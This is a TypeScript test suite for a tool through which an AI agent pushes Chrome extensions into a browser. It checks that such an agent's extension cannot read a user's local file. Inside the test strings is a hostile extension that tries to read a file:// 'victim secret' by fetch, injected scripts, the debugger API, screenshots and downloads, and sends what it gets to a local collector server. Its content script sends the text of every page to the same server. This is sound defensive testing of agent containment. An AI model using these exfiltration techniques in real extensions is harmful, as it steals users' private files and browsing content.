import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import assert from 'node:assert/strict';
import { generateKeyPairSync } from 'node:crypto';
import { once } from 'node:events';
import { rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { setTimeout as delay } from 'node:timers/promises';
import { configure, freshInstall, readState } from '../../src/devtools/extensions/extensionState';
import { BrowserLink } from '../../src/devtools/connection/link';
import { programPath } from '../contract/shippedPrograms';
import { PushStage } from '../contract/pushStage';
import { byUpload, mayRestart } from '../contract/pushes';
import { eventually } from '../support/eventually';
import { addressOf } from '../support/devToolsAddress';

/** What is in a file beside the workspace. */
const SECRET = 'VICTIM SECRET 4711';

/** How long all attempts of an extension may take, and how long a start that must not happen is waited for, in milliseconds. */
const ATTEMPTS_MS = 20_000;
const NOTHING_MS = 2500;

function newKey(): string {
  const { publicKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  return publicKey.export({ type: 'spki', format: 'der' }).toString('base64');
}

/** An extension that tries all that it can to read a file, from its first statement on, and tells a server what it got. */
function attempts(file: string, server: string, build: string): string {
  return `
const file = ${JSON.stringify(file)};
const tell = (way, got) => fetch(${JSON.stringify(server)} + encodeURIComponent(${JSON.stringify(build)} + ' ' + way + ': ' + got)).catch(() => undefined);
let isGone = false; // A worker that a reload has ended runs on for a moment, and is refused everything.
const refused = (way, error) => {
  isGone ||= error === 'No SW';
  return tell(way, 'REFUSED ' + error);
};
const attempt = (way, act) => Promise.race([act(), new Promise((_, fail) => setTimeout(fail, 4000, 'too slow'))])
  .then((got) => tell(way, got), (error) => refused(way, error?.message ?? error));
const inTab = async (tabId) => {
  await new Promise((done) => setTimeout(done, 500));
  const [{ result }] = await chrome.scripting.executeScript({ target: { tabId }, func: () => document.documentElement.innerText });
  return result;
};
const first = attempt('first fetch', async () => await (await fetch(file)).text());
(async () => {
  await first;
  await attempt('tab', async () => await inTab((await chrome.tabs.create({ url: file })).id));
  await attempt('window', async () => await inTab((await chrome.windows.create({ url: file })).tabs[0].id));
  await attempt('update', async () => {
    const { id } = await chrome.tabs.create({ url: 'about:blank' });
    await chrome.tabs.update(id, { url: file });
    return await inTab(id);
  });
  await attempt('open tabs', async () => {
    const tabs = (await chrome.tabs.query({})).filter(({ url }) => url?.startsWith('file:'));
    return (await Promise.all(tabs.map(({ id }) => inTab(id)))).join();
  });
  await attempt('capture', async () => {
    const [tab] = (await chrome.tabs.query({})).filter(({ url }) => url?.startsWith('file:'));
    if (!tab) throw new Error('no tab');
    await chrome.tabs.update(tab.id, { active: true });
    await new Promise((done) => setTimeout(done, 700));
    return 'PICTURE ' + (await chrome.tabs.captureVisibleTab(tab.windowId)).length;
  });
  await attempt('debugger', async () => {
    const { id: tabId } = await chrome.tabs.create({ url: 'about:blank' });
    await chrome.debugger.attach({ tabId }, '1.3');
    await chrome.debugger.sendCommand({ tabId }, 'Page.navigate', { url: file });
    await new Promise((done) => setTimeout(done, 500));
    const { result } = await chrome.debugger.sendCommand({ tabId }, 'Runtime.evaluate', { expression: 'document.documentElement.innerText' });
    return result.value;
  });
  await attempt('download', () => chrome.downloads.download({ url: file, filename: 'copy.txt' }));
  await attempt('download seen', async () => {
    await new Promise((done) => setTimeout(done, 500));
    return JSON.stringify((await chrome.downloads.search({ orderBy: ['-startTime'], limit: 1 })).map(({ state, bytesReceived }) => [state, bytesReceived]));
  });
  await attempt('offscreen', async () => {
    await chrome.offscreen.createDocument({ url: 'page.html', reasons: ['DOM_PARSER'], justification: 'x' });
    return 'opened';
  });
  await new Promise((done) => setTimeout(done, 700));
  if (!isGone) await tell('all', 'done');
})();
`;
}

const PAGE = (file: string, server: string, build: string): string => `
const tell = (way, got) => fetch(${JSON.stringify(server)} + encodeURIComponent(${JSON.stringify(build)} + ' ' + way + ': ' + got)).catch(() => undefined);
const file = ${JSON.stringify(file)};
fetch(file).then((answer) => answer.text()).then((got) => tell('page fetch', got), (error) => tell('page fetch', 'REFUSED ' + error));
const request = new XMLHttpRequest();
request.open('GET', file);
request.onload = () => tell('page request', request.responseText);
request.onerror = () => tell('page request', 'REFUSED');
request.send();
const frame = document.body.appendChild(document.createElement('iframe'));
frame.onload = () => { try { tell('page frame', frame.contentDocument.documentElement.innerText); } catch (error) { tell('page frame', 'REFUSED ' + error); } };
frame.src = file;
`;

const SCRIPT = (server: string, build: string): string =>
  `fetch(${JSON.stringify(server)} + encodeURIComponent(${JSON.stringify(build)} + ' content script: ' + document.documentElement.innerText));`;

describe('a hostile agent and the extension that it pushes', function () {
  this.timeout(180_000);
  const stage = PushStage.forSuite();
  let client: Client;
  let server: Server;
  let told: string[] = [];
  let secret: string;

  beforeEach(async () => {
    const { folder, service } = stage();
    secret = join(folder, '..', `victim-${Date.now()}.txt`);
    await writeFile(secret, SECRET, { mode: 0o600 });
    told = [];
    server = createServer((request, response) => {
      told.push(decodeURIComponent(request.url ?? '').slice(1));
      response.setHeader('access-control-allow-origin', '*').end('x');
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    client = new Client({ name: 'agent', version: '1' });
    await client.connect(
      new StdioClientTransport({
        command: process.execPath,
        args: [await programPath('mcp'), '--root', folder, '--service', service.baseUrl, '--headless'],
        env: { SIDELOAD_TOKEN: service.token },
        stderr: 'pipe',
      }),
    );
  });
  afterEach(async () => {
    await client.close();
    server.closeAllConnections();
    server.close();
    await rm(secret, { force: true });
  });

  async function write(build: string, more: Record<string, unknown> = {}): Promise<void> {
    const at = stage();
    const address = server.address();
    const port = typeof address === 'object' ? address?.port : undefined;
    const [file, url] = [pathToFileURL(secret).href, `http://127.0.0.1:${port ?? 0}/`];
    await at.write('background.js', attempts(file, url, build));
    await at.write('page.html', '<!doctype html><body><script src="page.js"></script>');
    await at.write('page.js', PAGE(file, url, build));
    await at.write('content.js', SCRIPT(url, build));
    await at.editManifest({
      permissions: ['tabs', 'scripting', 'debugger', 'downloads', 'offscreen', 'storage', 'activeTab'],
      host_permissions: ['<all_urls>', 'file:///*'],
      content_scripts: [{ matches: ['<all_urls>', 'file:///*'], js: ['content.js'], run_at: 'document_start' }],
      ...more,
    });
  }

  async function call(name: string): Promise<string> {
    const { content } = await client.callTool({ name, arguments: {} });
    return JSON.stringify(content);
  }

  /** A person looks at a file in the same browser. */
  const openFile = (): Promise<unknown> =>
    stage().look((connection) => connection.send('Target.createTarget', { url: pathToFileURL(secret).href }));

  async function agentPushes(name = 'push_extension'): Promise<void> {
    assert.match(await call(name), /"text":"RUNNING: /);
  }

  /** What a build was told about the file, when it has tried everything. */
  async function triedBy(build: string): Promise<string[]> {
    await eventually(
      `${build} has tried everything`,
      () => told.some((line) => line === `${build} all: done`),
      ATTEMPTS_MS + 20_000,
    );
    return told.filter((line) => line.startsWith(`${build} `));
  }

  /**
   * `hadAccess`: its process, which another window keeps, may still have Chromium copy a file into the downloads of the user, where the extension
   * cannot read it, either.
   */
  async function assertNothing(build: string, hadAccess = false): Promise<void> {
    const tried = await triedBy(build);
    const read = tried.filter(
      (line) => line.includes(SECRET) || line.includes(': PICTURE ') || (!hadAccess && line.includes('complete')),
    );
    assert.deepEqual(read, [], tried.join('\n'));
    assert(
      tried.some((line) => line.startsWith(`${build} first fetch: REFUSED`)),
      tried.join('\n'),
    );
    assert(
      tried.some((line) => line.startsWith(`${build} page fetch: REFUSED`)),
      tried.join('\n'),
    );
  }

  async function assertReads(build: string): Promise<void> {
    const tried = await triedBy(build);
    for (const way of ['page fetch', 'tab']) assert(tried.includes(`${build} ${way}: ${SECRET}`), tried.join('\n'));
  }

  it('read no file of the user, whatever it tries from its first statement on, and after a reload by itself', async () => {
    await openFile();
    await write('first');
    await agentPushes();
    await assertNothing('first');
    await write('next');
    await agentPushes();
    await assertNothing('next');
    told = [];
    await agentPushes('reload_extension');
    await assertNothing('next');
    told = [];
    // It answers before: a worker that has ended would be asked again, and Chromium disables what reloads itself often.
    await stage().ask('setTimeout(() => chrome.runtime.reload(), 50) && 1');
    await assertNothing('next');
  });

  it('read no file by an extension with a key, nor by one that changes its key', async () => {
    await openFile();
    await write('keyed', { key: newKey() });
    await agentPushes();
    await assertNothing('keyed');
    await openFile();
    told = [];
    await agentPushes('reload_extension');
    await assertNothing('keyed');
    // Chromium keeps the extension with the former key loaded as well, and the result of the push names it.
    await write('rekeyed', { key: newKey() });
    assert.match(await call('push_extension'), /"text":"(?:NOT )?RUNNING: /);
    await assertNothing('rekeyed');
    const { folder } = stage();
    await rm(join(folder, 'manifest.json'));
    await stage().write(
      'manifest.json',
      JSON.stringify({
        manifest_version: 3,
        name: 'Sideload Sample',
        version: '3',
        background: { service_worker: 'background.js' },
      }),
    );
    await write('keyless');
    assert.match(await call('push_extension'), /"text":"(?:NOT )?RUNNING: /);
    await assertNothing('keyless');
  });

  it('read no file after a push of the person, who has that access, and does not get it back by a restart', async () => {
    const at = stage();
    await write('person');
    await at.mustRun({ folderName: '', ...byUpload });
    await assertReads('person');
    told = [];
    await write('agent');
    await agentPushes();
    await assertNothing('agent', true);
    told = [];
    await at.restartBySomebodyElse();
    await delay(NOTHING_MS);
    assert.deepEqual(told, [], 'it runs again, as Chromium runs what is on its command line');
    await agentPushes();
    await assertNothing('agent');
    // What the person uploads then is loaded at each start again.
    await write('person again');
    await at.mustRun({ folderName: '', delivery: 'restart', confirmRestart: mayRestart });
    told = [];
    await at.restartBySomebodyElse('another');
    await triedBy('person again');
  });

  it('lose the access that the person has allowed by their next push, and get none by a fresh install', async () => {
    const at = stage();
    await write('agent');
    await agentPushes();
    await assertNothing('agent');
    const [extension] = (await at.loaded()).filter(({ name }) => name === 'Sideload Sample');
    assert(extension);
    const link = await BrowserLink.open(addressOf(at.browser));
    try {
      await assert.rejects(freshInstall(link, extension, AbortSignal.timeout(10_000)), /Allow File Access/);
      told = [];
      await configure(link, extension.id, { fileAccess: true });
      await assertReads('agent');
      told = [];
      await agentPushes('reload_extension');
      assert.equal((await readState(link, extension.id))?.fileAccess.isOn, false);
      await assertNothing('agent');
    } finally {
      link.close();
    }
  });
});
